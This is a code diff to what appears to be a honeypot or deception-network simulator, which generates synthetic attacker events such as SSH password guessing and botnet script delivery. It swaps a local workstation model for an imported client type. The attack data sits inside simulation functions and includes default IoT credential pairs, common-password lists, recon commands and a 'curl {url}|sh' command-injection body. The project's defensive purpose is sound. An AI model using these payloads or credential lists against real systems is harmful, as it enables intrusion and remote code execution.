@@ -9,7 +9,6 @@ from random import Random
 from typing import NamedTuple
 
 from decnet_core.events.catalogue import (
-    ClientIdentified,
     CommandRun,
     ConnectionOpened,
     FileCaptured,
@@ -19,12 +18,11 @@ from decnet_core.events.catalogue import (
     Payload,
     SessionClosed,
     SessionOpened,
-    SshKex,
-    TcpStack,
     TlsClient,
 )
 from planted import arsenal
-from planted.arsenal import hexadecimal, word
+from planted.arsenal import Client, hexadecimal, word
+from planted.trades import arrive
 
 DEFAULTS = (("root", "xc3511"), ("root", "vizxv"), ("admin", "admin"), ("root", "admin"), ("root", "888888"))
 TOP = ("123456", "password", "admin123", "root", "qwerty", "P@ssw0rd", "1q2w3e4r", "test", "changeme")
@@ -32,28 +30,6 @@ ACCOUNTS = ("root", "admin", "oracle", "postgres", "ubuntu", "ftpuser", "test", 
 LOOK = ("id", "uname -a", "w", "cat /etc/os-release", "ip a", "ls -la /home", "df -h", "ps aux", "last -20", "env")
 
 Credential = tuple[str, str]
-
-
-class Workstation(NamedTuple):
-    """The software from which somebody works: mostly what its system brings."""
-
-    banner: str
-    hassh: str
-    agent: str
-    stack: str
-
-
-def workstation(dice: Random) -> Workstation:
-    one = arsenal.any_client(dice, 0.08)
-    return Workstation(one.banner, one.hassh, one.agent, one.stack)
-
-
-def connect(at: Workstation, service: str = "ssh") -> Iterator[Payload]:
-    yield ConnectionOpened(service)
-    yield TcpStack("syn", "4:64", at.stack)
-    if service == "ssh":
-        yield SshKex("client", at.banner, at.hassh, "algorithms")
-        yield ClientIdentified("ssh", at.banner)
 
 
 class Build(NamedTuple):
@@ -84,9 +60,9 @@ def infect(dice: Random, build: Build, token: str) -> Iterator[Payload]:
         yield FileCaptured("telnet", build.hashes[kind], 70_000, None, url)
 
 
-def load(dice: Random, at: Workstation, build: Build, secrets: Sequence[Credential]) -> Iterator[Payload]:
+def load(dice: Random, at: Client, build: Build, secrets: Sequence[Credential]) -> Iterator[Payload]:
     """Deliver a botnet's script over SSH, as its operator's own servers do."""
-    yield from connect(at)
+    yield from arrive(at)
     for user, secret in dice.sample(secrets, min(len(secrets), dice.randrange(3, 15))):
         yield LoginAttempt("ssh", user, False, password=secret)
     yield LoginAttempt("ssh", "root", True, password=dice.choice(TOP))
@@ -101,7 +77,7 @@ def load(dice: Random, at: Workstation, build: Build, secrets: Sequence[Credenti
 class Operator(NamedTuple):
     """A person at a keyboard."""
 
-    at: Workstation
+    at: Client
     key: arsenal.Key
     lines: tuple[str, ...]
     """What they do once they are in, in their order."""
@@ -110,7 +86,7 @@ class Operator(NamedTuple):
 
 def spray(dice: Random, one: Operator, secrets: Sequence[Credential]) -> Iterator[Payload]:
     """Try logins that fit the victim."""
-    yield from connect(one.at)
+    yield from arrive(one.at)
     for user, secret in dice.sample(secrets, min(len(secrets), dice.randrange(2, 8))):
         yield LoginAttempt("ssh", user, False, password=secret)
     for _ in range(dice.randrange(3)):
@@ -119,7 +95,7 @@ def spray(dice: Random, one: Operator, secrets: Sequence[Credential]) -> Iterato
 
 def work(dice: Random, one: Operator, way_in: Credential | None, tool: str) -> Iterator[Payload]:
     """Log in and work by hand: look around, then some of the steps."""
-    yield from connect(one.at)
+    yield from arrive(one.at)
     if way_in is None:
         yield LoginAttempt("ssh", "root", True, "publickey", public_key=one.key.fingerprint)
     else:
@@ -134,9 +110,9 @@ def work(dice: Random, one: Operator, way_in: Credential | None, tool: str) -> I
     yield SessionClosed("ssh", dice.randrange(60_000, 2_400_000), len(lines))
 
 
-def harvest(dice: Random, at: Workstation, found: Credential | None) -> Iterator[Payload]:
+def harvest(dice: Random, at: Client, found: Credential | None) -> Iterator[Payload]:
     """Guess passwords until one is accepted, look whether it is a real machine, leave."""
-    yield from connect(at)
+    yield from arrive(at)
     for _ in range(dice.randrange(6, 25)):
         yield LoginAttempt("ssh", dice.choice(ACCOUNTS), False, password=dice.choice((*TOP, f"{word(dice, 2)}1")))
     if found:
@@ -146,9 +122,9 @@ def harvest(dice: Random, at: Workstation, found: Credential | None) -> Iterator
         yield SessionClosed("ssh", dice.randrange(800, 4_000), 1)
 
 
-def probe(dice: Random, agent: str, at: Workstation) -> Iterator[Payload]:
+def probe(dice: Random, agent: str, at: Client) -> Iterator[Payload]:
     """Look what answers, as researchers do."""
-    yield from connect(at, "http")
+    yield from arrive(at, "http")
     yield HttpClient("GET", "HTTP/1.1", "scanner", hashlib.md5(agent.encode()).hexdigest(), ("Host",), agent)
     if dice.random() < 0.5:
         yield TlsClient("tcp", "0" * 32, f"t13d1516h2_{agent[:12]}_0", 0x0303)
@@ -156,15 +132,15 @@ def probe(dice: Random, agent: str, at: Workstation) -> Iterator[Payload]:
         yield HttpRequest("GET", path, user_agent=agent, status=200)
 
 
-def guess(dice: Random, at: Workstation) -> Iterator[Payload]:
-    yield from connect(at)
+def guess(dice: Random, at: Client) -> Iterator[Payload]:
+    yield from arrive(at)
     for _ in range(dice.randrange(4, 20)):
         yield LoginAttempt("ssh", dice.choice(ACCOUNTS), False, password=dice.choice(TOP))
 
 
-def exploit(dice: Random, at: Workstation, agent: str, url: str) -> Iterator[Payload]:
+def exploit(dice: Random, at: Client, agent: str, url: str) -> Iterator[Payload]:
     """Use a published weakness of a Web program to fetch something."""
-    yield from connect(at, "http")
+    yield from arrive(at, "http")
     yield HttpClient("POST", "HTTP/1.1", "other", hexadecimal(Random(agent), 32), ("Host",), agent)
     body = f"cmd=cd /tmp;curl {url}|sh"
     yield HttpRequest(
